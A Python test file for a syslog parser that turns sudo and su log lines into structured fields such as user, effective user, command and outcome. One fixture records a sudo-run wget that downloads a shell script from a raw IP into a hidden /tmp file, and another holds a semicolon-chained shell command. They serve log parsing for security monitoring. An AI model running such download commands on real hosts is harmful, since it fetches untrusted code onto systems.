"""sudo and su lines: who ran what as whom, refusals as failures."""

from __future__ import annotations

from hypothesis import given, settings
from hypothesis import strategies as st

from canh.collectors.registry import get_parser
from tests.collectors.parsing import ctx, fields, parse


def test_sudo_command() -> None:
    ev = parse(
        "Nov 21 02:26:10 bastion-01 sudo:   deploy : TTY=pts/3 ; PWD=/home/deploy ; USER=root ; "
        "COMMAND=/usr/bin/wget http://185.220.101.47/x.sh -O /tmp/.x.sh"
    )
    assert fields(
        ev,
        "event.dataset",
        "event.action",
        "event.outcome",
        "user.name",
        "user.effective.name",
        "process.name",
    ) == {
        "event.dataset": "system.auth",
        "event.action": "sudo",
        "event.outcome": "success",
        "user.name": "deploy",
        "user.effective.name": "root",
        "process.name": "sudo",
    }
    cmd = "/usr/bin/wget http://185.220.101.47/x.sh -O /tmp/.x.sh"
    assert fields(
        ev, "process.command_line", "system.auth.sudo.command", "system.auth.sudo.tty", "system.auth.sudo.pwd"
    ) == {
        "process.command_line": cmd,
        "system.auth.sudo.command": cmd,
        "system.auth.sudo.tty": "pts/3",
        "system.auth.sudo.pwd": "/home/deploy",
    }


def test_sudo_command_containing_separator_is_kept_whole() -> None:
    ev = parse("Nov 21 02:26:10 h sudo: an : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/bin/sh -c echo a ; id")
    assert ev["process"]["command_line"] == "/bin/sh -c echo a ; id"


def test_sudo_refusal_is_a_failure() -> None:
    ev = parse(
        "Nov 21 02:26:10 h sudo:   khach : user NOT in sudoers ; TTY=pts/1 ; PWD=/home/khach ; USER=root ; COMMAND=/bin/bash"
    )
    assert fields(ev, "event.outcome", "event.category", "user.name", "system.auth.sudo.error") == {
        "event.outcome": "failure",
        "event.category": ["authentication"],
        "user.name": "khach",
        "system.auth.sudo.error": "user NOT in sudoers",
    }


def test_sudo_pam_session() -> None:
    ev = parse(
        "Nov 21 02:26:10 h sudo: pam_unix(sudo:session): session opened for user root(uid=0) by deploy(uid=1001)"
    )
    assert fields(ev, "event.dataset", "event.action", "user.name") == {
        "event.dataset": "system.auth",
        "event.action": "session_opened",
        "user.name": "root",
    }


def test_su_success_and_failure() -> None:
    ok = parse("Nov 21 02:27:39 bastion-01 su: (to root) deploy on pts/3")
    assert fields(ok, "event.action", "event.outcome", "user.name", "user.effective.name") == {
        "event.action": "su",
        "event.outcome": "success",
        "user.name": "deploy",
        "user.effective.name": "root",
    }
    bad = parse("Nov 21 02:27:39 bastion-01 su[88]: FAILED SU (to root) khach on pts/4")
    assert fields(bad, "event.action", "event.outcome", "user.name") == {
        "event.action": "su",
        "event.outcome": "failure",
        "user.name": "khach",
    }


@settings(max_examples=300, deadline=None)
@given(st.sampled_from(["sudo", "su"]), st.text(max_size=200))
def test_any_body_parses_without_raising(prog: str, body: str) -> None:
    ev = get_parser("syslog").parse(f"Nov 21 02:10:01 h {prog}: {body}", ctx())
    assert ev is None or ev["event"]["dataset"] == "system.auth"
